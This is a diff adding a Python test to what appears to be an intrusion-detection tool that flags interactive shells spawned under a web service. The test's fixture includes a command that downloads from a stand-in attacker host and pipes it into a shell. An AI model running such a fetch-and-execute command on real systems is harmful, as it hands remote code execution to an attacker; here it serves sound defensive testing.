@@ -65,6 +65,17 @@ def test_a_command_or_a_script_is_what_services_start(argv: list[str], stdio: st
     assert severities(node) == []
 
 
+def test_what_a_script_pipes_into_a_shell_is_not_who_connected() -> None:
+    node, through = Node(), whole_pipeline()
+    service = node.service("/app/web")
+    accept(node, service)
+    script = node.spawn(service, "/usr/bin/dash", ["sh", "-c", "curl -s http://evil.example/x | sh"])
+    node.spawn(script, "/usr/bin/dash", ["sh"], stdio=["PIPE"] * 3)
+    assert severities(node, through) == []
+    node.spawn(script, "/usr/bin/dash", ["sh", "-i"], stdio=["PIPE"] * 3)
+    assert severities(node, through) == ["CRITICAL"]
+
+
 def test_later_and_from_inside_and_from_login_services_it_is_none() -> None:
     for executable, remote, later_s in (
         ("/app/x", EVIL, 6), ("/app/x", "127.0.0.1", 0), ("/usr/sbin/sshd", EVIL, 0),
